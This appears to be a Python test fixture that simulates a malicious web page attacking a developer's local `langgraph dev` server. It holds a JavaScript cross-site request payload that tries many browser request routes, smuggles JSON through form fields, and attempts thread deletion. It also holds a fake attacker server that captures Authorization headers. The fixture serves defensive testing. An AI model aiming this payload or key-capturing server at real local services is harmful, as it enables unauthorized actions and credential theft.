"""A stranger's page, opened in a developer's browser while `langgraph dev` runs beside it: it asks
that server in every way a page has, and says what it could read."""

from __future__ import annotations

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Self

ASKS = """
async ({ server, thread, run }) => {
  const body = JSON.stringify(run), read = [], posts = ["/runs/wait", "/runs", "/runs/stream",
    `/threads/${thread}/runs/wait`, "/mcp"];
  const pause = (time) => new Promise((done) => setTimeout(done, time));
  const attempt = async (what, ask) => {
    try {
      const text = await Promise.race([ask(), pause(5000)]);
      if (text) read.push([what, text]);
    } catch (error) { /* refused */ }
  };
  const gets = ["/ok", "/info", "/openapi.json", `/threads/${thread}/state`, "/threads/search"];
  for (const path of gets) {
    await attempt(`get ${path}`, async () => (await fetch(server + path)).text());
    await attempt(`no-cors get ${path}`,
      async () => (await fetch(server + path, { mode: "no-cors" })).text());
    for (const [tag, at] of [["img", "src"], ["script", "src"], ["iframe", "src"],
                             ["link", "href"], ["object", "data"]]) {
      const element = document.createElement(tag);
      if (tag === "link") element.rel = "stylesheet";
      element[at] = server + path;
      document.body.append(element);
    }
  }
  for (const path of posts) {
    for (const type of ["application/json", "text/plain", "application/x-www-form-urlencoded"]) {
      for (const mode of ["cors", "no-cors"]) {
        const options = { method: "POST", mode, body, headers: { "content-type": type } };
        await attempt(`${mode} ${type} ${path}`,
          async () => (await fetch(server + path, options)).text());
      }
      navigator.sendBeacon(server + path, new Blob([body], { type }));
    }
    await attempt(`no type ${path}`, async () => (await fetch(server + path,
      { method: "POST", mode: "no-cors", body: new Blob([body]) })).text());
    await attempt(`xhr ${path}`, () => new Promise((done, fail) => {
      const request = new XMLHttpRequest();
      request.open("POST", server + path);
      request.onload = () => done(request.responseText);
      request.onerror = fail;
      request.send(body);
    }));
    for (const enctype of ["text/plain", "multipart/form-data"]) {
      const frame = document.createElement("iframe"), form = document.createElement("form");
      frame.name = `frame-${Math.random()}`;
      Object.assign(form, { method: "POST", action: server + path, enctype, target: frame.name });
      const field = document.createElement("input");
      [field.name, field.value] = [body.slice(0, -1) + ',"metadata":{"x":"', '"}}'];
      form.append(field);
      document.body.append(frame, form);
      form.submit();
    }
  }
  await attempt("delete", async () => (await fetch(`${server}/threads/${thread}`,
    { method: "DELETE" })).text());
  await attempt("websocket", () => new Promise((done, fail) => {
    const socket = new WebSocket(`${server.replace("http", "ws")}/threads/${thread}/stream/events`);
    socket.onopen = () => done("open");
    socket.onerror = fail;
  }));
  await pause(2000);
  return read;
}
"""
"""Gives what it read, as pairs of what was asked and the text that came back."""


class StrangersSite:
    """A site on a port of its own that also counts what is sent to it: `/v1` is a model server
    for whoever can be made to ask it, `/search` a search engine. A context manager."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        self.keys: list[str] = []
        site = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                if self.path == "/":
                    self._answer(b"<!doctype html><title>Nice</title><body>A nice page.")
                elif self.path != "/favicon.ico":
                    self.do_POST()

            def do_POST(self) -> None:
                site.asked.append(self.path)
                site.keys += filter(None, [self.headers.get("authorization")])
                self._answer(b"{}")

            def _answer(self, body: bytes) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.send_header("content-length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *_: object) -> None:
                return

        self._http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self._http.server_address[1]
        self._thread = threading.Thread(target=self._http.serve_forever, args=(0.05,), daemon=True)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self,
        kind: type[BaseException] | None,
        error: BaseException | None,
        place: TracebackType | None,
    ) -> None:
        self._http.shutdown()
        self._http.server_close()
